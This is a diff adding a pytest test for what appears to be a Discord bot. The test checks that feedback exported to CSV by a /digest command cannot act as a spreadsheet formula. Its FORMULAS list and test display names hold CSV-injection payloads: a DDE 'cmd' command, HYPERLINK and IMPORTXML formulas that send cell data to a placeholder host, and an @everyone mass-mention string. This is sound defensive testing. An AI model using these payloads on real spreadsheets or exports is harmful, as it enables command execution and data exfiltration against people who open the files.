@@ -538,3 +538,56 @@ def test_content_files_that_are_not_content(tmp_path: Path, raw: bytes):
     with pytest.raises(ContentError) as caught:
         load_content(path)
     assert caught.value.problems
+
+
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    '\t=HYPERLINK("http://x")',
+    "\r=1",
+    "  =trimmed first",
+    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
+    "<@&{role}> @everyone **look**",
+    "\u202e=reversed",
+]
+
+
+async def test_digest_exports_neutralise_formulas(world, figures):
+    """Feedback written to attack a spreadsheet (form and thread replies, also as display names) comes
+    out of every CSV file of /digest as text, never as a formula."""
+    await world.publish()
+    posts = await RecommendationRepository(world.db).live_posts(world.guild_id)
+    writers = [
+        world.emu.create_member(world.guild_id, name, nick=name).id
+        for name in ("=cmd|' /C calc'!A0", "+danger", "@at", "-minus", "plain")
+    ]
+    for index, text in enumerate(FORMULAS):
+        text = personalise(world, text)
+        user = writers[index % len(writers)]
+        post = posts[index % len(posts)]
+        world.clock.advance(minutes=5)
+        opened = await world.emu.click_button(
+            user, post.thread_id, post.message_id, f"feedback:give:{post.recommendation_id}"
+        )
+        await opened.wait(10)
+        done = await (await world.emu.submit_modal(user, opened, {"text": text})).wait(10)
+        assert "is saved with reference" in done.content, done.content
+        await world.emu.post_message(user, post.thread_id, text)  # a thread reply is feedback too
+    await world.settle()
+    result = await world.command("wg", "digest", since="all", timeout=30)
+    await result.wait_for_followup(30)
+    files = [file for message in result.followups for file in message.files]
+    sheets = [(name, data) for name, data in files if name.endswith(".csv")]
+    assert sheets, [name for name, _ in files]
+    cells = 0
+    for name, data in sheets:
+        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
+            for value in row:
+                cells += 1
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+    assert_nothing_pings(world)
+    figures["feedback_items"] = 2 * len(FORMULAS)
+    figures["csv_files"] = len(sheets)
+    figures["cells_checked"] = cells
